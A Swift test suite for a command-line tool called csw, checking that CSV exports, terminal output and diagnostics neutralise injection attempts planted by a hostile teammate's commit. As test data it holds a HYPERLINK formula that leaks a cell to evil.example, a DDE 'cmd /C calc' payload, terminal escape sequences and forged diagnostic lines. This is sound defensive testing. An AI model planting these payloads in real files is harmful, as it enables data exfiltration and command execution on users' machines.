import CSWCore
import Foundation
import Testing

/// A teammate's commit that tries to inject into what csw writes: formulas into the CSV a
/// CSM opens in a spreadsheet, escape sequences and forged lines into the terminal
/// (docs/SECURITY.md, "A hostile teammate"; docs/INTEGRATIONS.md; docs/DIAGNOSTICS.md).
@Suite struct HostileTeammateOutputTests {
    static let hyperlink = #"=HYPERLINK("http://evil.example/?"&A1,"click")"#

    /// A string as a JSON string literal.
    static func jsonString(_ s: String) -> String {
        "\"" + s.replacingOccurrences(of: "\\", with: "\\\\").replacingOccurrences(of: "\"", with: "\\\"") + "\""
    }

    /// A small RFC 4180 reader (quoted fields with commas, quotes and line breaks).
    static func csvRecords(_ text: String) -> [[String]] {
        var records: [[String]] = [], fields: [String] = [], field = ""
        var quoted = false, i = text.startIndex
        while i < text.endIndex {
            let c = text[i]
            if quoted {
                if c == "\"" {
                    let next = text.index(after: i)
                    if next < text.endIndex && text[next] == "\"" { field.append("\""); i = next } else { quoted = false }
                } else {
                    field.append(c)
                }
            } else if c == "\"" {
                quoted = true
            } else if c == "," {
                fields.append(field); field = ""
            } else if c == "\n" {
                fields.append(field); field = ""
                records.append(fields); fields = []
            } else {
                field.append(c)
            }
            i = text.index(after: i)
        }
        if !field.isEmpty || !fields.isEmpty { fields.append(field); records.append(fields) }
        return records
    }

    /// Every cell a spreadsheet would evaluate: starting with = + - @ tab or CR and not a
    /// plain number.
    static func formulaCells(_ records: [[String]]) -> [String] {
        records.flatMap { $0 }.filter { cell in
            guard let first = cell.unicodeScalars.first, ["=", "+", "-", "@", "\t", "\r"].contains(first) else { return false }
            return Double(cell) == nil
        }
    }

    /// The text with csw's visible escapes (`\u001B`) turned back into the characters.
    static func unescaped(_ text: String) -> String {
        var out = "", rest = Substring(text)
        while let r = rest.range(of: "\\u") {
            out += rest[..<r.lowerBound]
            let hex = rest[r.upperBound...].prefix(4)
            if hex.count == 4, let v = UInt32(hex, radix: 16), let scalar = Unicode.Scalar(v) {
                out.unicodeScalars.append(scalar)
                rest = rest[rest.index(r.upperBound, offsetBy: 4)...]
            } else {
                out += "\\u"
                rest = rest[r.upperBound...]
            }
        }
        return out + rest
    }

    /// Characters that must never reach a terminal raw from a file.
    static func rawControls(_ text: String) -> [String] {
        text.unicodeScalars.filter { s in
            (s.value < 0x20 && s != "\n" && s != "\t") || (0x7F...0x9F).contains(s.value) || [0x2028, 0x2029].contains(s.value)
                || (0x202A...0x202E).contains(s.value) || (0x2066...0x2069).contains(s.value)
        }.map { String(format: "U+%04X", $0.value) }
    }

    @Test func formulaCellsInExportAndScoreCSVOpenAsText() throws {
        let team = try HostileTeam()
        try team.edit("customers/HOSP_001/profile.json", "\"Metro Health System\"", Self.jsonString(Self.hyperlink))
        try team.edit("customers/HOSP_001/profile.json", "\"Dr. Sarah Johnson\"", "\"@SUM(1+1)\"")
        try team.edit("customers/AMC_002/profile.json", "\"Riverbend University Medical Center\"", "\"\\t=cmd|' /C calc'!A0\"")
        try team.commitAndPush("Rename two accounts")
        let sync = try team.victimSyncs()
        #expect(sync.status == 0, "\(sync.stdout)\(sync.stderr)")

        let out = team.scratch.url.appendingPathComponent("export")
        let export = try team.csw(["export", "--format", "csv", "--out", out.path, "--as-of", "2025-12-01"], timeout: 60)
        #expect(export.status == 0, "\(export.stdout)\(export.stderr)")
        var numbers = 0
        for table in try FileManager.default.contentsOfDirectory(atPath: out.path) where table.hasSuffix(".csv") {
            let records = Self.csvRecords(try String(contentsOf: out.appendingPathComponent(table), encoding: .utf8))
            #expect(Self.formulaCells(records).isEmpty, "\(table): cells a spreadsheet evaluates: \(Self.formulaCells(records))")
            // Numbers stay numbers: a negative trend is -3.2, not '-3.2.
            numbers += records.flatMap { $0 }.filter { $0.hasPrefix("-") && Double($0) != nil }.count
            #expect(!records.flatMap { $0 }.contains { $0.hasPrefix("'") && Double($0.dropFirst()) != nil }, "\(table) quotes a number")
        }
        #expect(numbers > 0, "the export has negative numbers to check")
        let customers = Self.csvRecords(try String(contentsOf: out.appendingPathComponent("customers.csv"), encoding: .utf8))
        let hospital = try #require(customers.first { $0.first == "HOSP_001" })
        #expect(hospital.contains("'" + Self.hyperlink) && hospital.contains("'@SUM(1+1)"), "\(hospital)")
        #expect(customers.contains { $0.contains("'\t=cmd|' /C calc'!A0") })

        let score = try team.csw(["score", "--format", "csv", "--as-of", "2025-12-01"], timeout: 60)
        #expect(score.status == 0, "\(score.stderr)")
        let scores = Self.csvRecords(score.stdout)
        #expect(Self.formulaCells(scores).isEmpty, "csw score --format csv: \(Self.formulaCells(scores))")
        #expect(scores.contains { $0.first == "HOSP_001" && $0[1] == "'" + Self.hyperlink })

        // csw's own export imports back as it was: the ' csw added is removed again.
        let empty = team.scratch.url.appendingPathComponent("empty")
        #expect(try CLITests.run(["init", "--empty", empty.path], in: team.scratch.url).status == 0)
        try FileManager.default.removeItem(at: empty.appendingPathComponent("csw.json"))
        try FileManager.default.copyItem(at: team.victim.appendingPathComponent("csw.json"), to: empty.appendingPathComponent("csw.json"))
        let imported = try CLITests.run(["import", "crm", out.appendingPathComponent("customers.csv").path, "--apply-valid"], in: empty, timeout: 60)
        #expect(imported.status == 0 || imported.status == 1, "\(imported.stdout)\(imported.stderr)")
        let profile = try String(contentsOf: empty.appendingPathComponent("customers/HOSP_001/profile.json"), encoding: .utf8)
        #expect(profile.contains(Self.jsonString(Self.hyperlink)) && profile.contains("\"@SUM(1+1)\""), "\(profile)")
        #expect(team.escaped().files.isEmpty && !team.escaped().executed)
    }

    /// A teammate's plain-git commit whose message and file name carry an SSN, and whose
    /// summary carries a terminal escape: csw log, status and audit show the mask and
    /// visible escapes, never the number or a raw control character.
    @Test func commitSummariesAndFileNamesAreShownMaskedAndEscaped() throws {
        let team = try HostileTeam()
        try team.write("customers/AMC_002/notes/2025-12-01-call SSN 123-45-6789.md", "---\ndate: 2025-12-01\n---\nCall.\n")
        try team.commitAndPush("Call with pt SSN 123-45-6789 \u{1B}[2J done")
        let sync = try team.victimSyncs()
        #expect(sync.status == 0 || sync.status == 1, "\(sync.stdout)\(sync.stderr)")
        for arguments in [["log"], ["log", "--format", "json"], ["audit"]] {
            let shown = try team.csw(arguments, timeout: 30)
            let text = shown.stdout + shown.stderr
            #expect(!text.contains("123-45-6789"), "csw \(arguments.joined(separator: " ")) shows the SSN:\n\(text)")
            #expect(Self.rawControls(text).isEmpty, "raw control characters in csw \(arguments.joined(separator: " ")):\n\(text)")
        }
        #expect(try team.csw(["log"], timeout: 30).stdout.contains("•••-••-••••"), "the summary keeps the mask")
        // an uncommitted file named with an identifier, in csw status
        try FileManager.default.createDirectory(at: team.victim.appendingPathComponent("customers/HOSP_001/notes"), withIntermediateDirectories: true)
        try "---\ndate: 2025-12-02\n---\nx\n".write(to: team.victim.appendingPathComponent("customers/HOSP_001/notes/2025-12-02 pt 987-65-4321.md"), atomically: true, encoding: .utf8)
        let status = try team.csw(["status"], timeout: 30)
        #expect(!(status.stdout + status.stderr).contains("987-65-4321"), "\(status.stdout)")
    }

    @Test func namesWithEscapesAndLineBreaksCannotForgeTerminalOutput() throws {
        let team = try HostileTeam()
        let screen = "X\u{1B}]0;pwned\u{07}\u{1B}[2J\u{9B}31m"
        let forged = "x\ncsw.json:1:1: error[CSW0102]: forged"
        try team.write("customers/\(screen)/profile.json", "{}\n")
        try team.write("customers/\(forged)/profile.json", "{}\n")
        try team.write("customers/AMC_002/notes/y\ncsw.json:2:1: error[CSW0102]: forged \u{1B}[2J.md", "---\nfoo: [unclosed\n---\n# n\nCaller gave SSN 123-45-6789.\n")
        try team.edit("customers/AMC_002/profile.json", "\"Riverbend University Medical Center\"",
                      "\"Riverbend\\u001b[2J\\u202eretnec\\nHOSP_001  forged row\"")
        try team.commitAndPush("New accounts")
        let sync = try team.victimSyncs()
        #expect(Self.rawControls(sync.stdout + sync.stderr).isEmpty, "\(sync.stdout)\(sync.stderr)")
        #expect(FileManager.default.fileExists(atPath: team.victim.appendingPathComponent("customers/\(forged)/profile.json").path), "the pull brought the files in")

        let validate = try team.csw(["validate"], timeout: 30)
        #expect(validate.status == 1, "\(validate.stdout)\(validate.stderr)")
        let text = validate.stdout + validate.stderr
        #expect(Self.rawControls(text).isEmpty, "raw control characters \(Self.rawControls(text)) in:\n\(text)")
        #expect(!text.split(separator: "\n").contains { $0.hasPrefix("csw.json:") }, "a forged diagnostic line:\n\(text)")
        // Every diagnostic line starts with a real path (with csw's escapes read back; the
        // path itself may hold text that looks like a diagnostic, so try each place).
        let location = /:\d+:\d+: (error|warning)\[CSW\d{4}\]/
        var shown = 0
        for line in text.split(separator: "\n") {
            let cuts = line.matches(of: location).map { String(line[..<$0.range.lowerBound]) }
            guard !cuts.isEmpty, !line.hasPrefix(" ") else { continue }  // notes are indented
            #expect(cuts.contains { FileManager.default.fileExists(atPath: team.victim.appendingPathComponent(Self.unescaped($0)).path) }, "\(line) names no file")
            shown += 1
        }
        #expect(shown >= 3, "\(text)")
        #expect(text.contains("customers/x\\u000Acsw.json:1:1: error[CSW0102]: forged:1:1: error[CSW0201]"), "\(text)")
        #expect(text.contains("customers/X\\u001B]0;pwned\\u0007\\u001B[2J\\u009B31m:1:1:"), "\(text)")

        // JSON keeps the names as they are, as valid JSON.
        let json = try team.csw(["validate", "--format", "json"], timeout: 30)
        let parsed = try #require(try JSONSerialization.jsonObject(with: Data(json.stdout.utf8)) as? [[String: Any]], "\(json.stdout)")
        #expect(parsed.contains { ($0["path"] as? String) == "customers/\(forged)" })
        #expect(Self.rawControls(json.stdout).isEmpty, "\(json.stdout)")

        for arguments in [["score"], ["score", "AMC_002", "--explain"], ["customer", "list"], ["history", "AMC_002"], ["diff", "HEAD~1", "HEAD"], ["phi", "scan"], ["fmt", "--check"]] {
            let run = try team.csw(arguments, timeout: 60)
            #expect(run.status < 2 && run.status != 124, "csw \(arguments.joined(separator: " ")): \(run.status) \(run.stderr)")
            let output = run.stdout + run.stderr
            #expect(Self.rawControls(output).isEmpty, "csw \(arguments.joined(separator: " ")): \(Self.rawControls(output)) in\n\(output)")
            #expect(!output.split(separator: "\n").contains { $0.hasPrefix("HOSP_001  forged") || $0.hasPrefix("csw.json:") },
                    "csw \(arguments.joined(separator: " ")) prints a forged line:\n\(output)")
        }
        #expect(team.escaped().files.isEmpty && !team.escaped().executed)
    }

    @Test(arguments: ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "'=1", "''@x", "'plain", "plain", "-3.2", "+4", "-", "", "a,\"b\"\nc", " =1"])
    func csvCellsReadBackAsWritten(value: String) throws {
        let cell = CSVCell.text(value)
        let read = try #require(Self.csvRecords(cell + "\n").first?.first)
        #expect(CSVCell.read(read) == value, "\(value) → \(cell) → \(read)")
        #expect(Self.formulaCells([[read]]).isEmpty, "\(value) → \(cell)")
    }

    @Test func terminalTextEscapesEveryControlCharacterAndKeepsTheRest() {
        let hostile = "a\u{1B}[2Jb\u{07}\u{7F}\u{85}\u{9B}\u{2028}\u{2029}\u{202A}\u{202E}\u{2066}\u{2069}\r\n\tz — é ✓"
        #expect(TerminalText.visible(hostile) == "a\\u001B[2Jb\\u0007\\u007F\\u0085\\u009B\\u2028\\u2029\\u202A\\u202E\\u2066\\u2069\\u000D\\u000A\\u0009z — é ✓")
        #expect(Self.unescaped(TerminalText.visible(hostile)) == hostile)
        #expect(TerminalText.visible("Metro Health — 100%") == "Metro Health — 100%")
        #expect(TerminalText.visible("\u{1B}[31mred\u{1B}[0m \u{1B}[8mhidden", keepingStyles: true) == "\u{1B}[31mred\u{1B}[0m \\u001B[8mhidden")
        let lines = Array("one\r\ntwo\rthree\n\u{1B}]0;t\u{07}".utf8)
        let kept = lines.withUnsafeBufferPointer { TerminalText.escaped($0, lines: true, styles: false) }.map { String(decoding: $0, as: UTF8.self) }
        #expect(kept == "one\r\ntwo\\u000Dthree\n\\u001B]0;t\\u0007")
    }
}
